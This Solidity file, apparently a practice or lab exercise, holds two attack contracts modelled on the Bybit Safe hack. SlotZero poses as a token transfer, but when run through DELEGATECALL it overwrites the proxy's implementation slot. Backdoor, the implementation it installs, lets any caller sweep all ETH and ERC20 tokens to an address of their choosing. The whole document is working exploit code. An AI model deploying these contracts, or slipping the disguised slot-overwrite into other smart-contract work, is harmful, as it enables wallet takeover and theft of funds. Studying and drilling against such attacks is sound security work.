// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IToken} from "./Token.sol";

/// @notice A scam for practice. A Safe that runs it by DELEGATECALL gets a new implementation: slot 0 is where its proxy keeps it. The call looks
/// like a transfer of a token, as it did at Bybit in February 2025.
contract SlotZero {
    address private implementation;

    function transfer(address to, uint256) external returns (bool) {
        implementation = to;
        return true;
    }
}

/// @notice A scam for practice: the implementation that comes then. Anybody who knows of it takes everything.
contract Backdoor {
    address private implementation; // slot 0 stays the proxy's

    receive() external payable {}

    function sweepETH(address payable to) external {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok);
    }

    function sweepERC20(IToken token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }
}
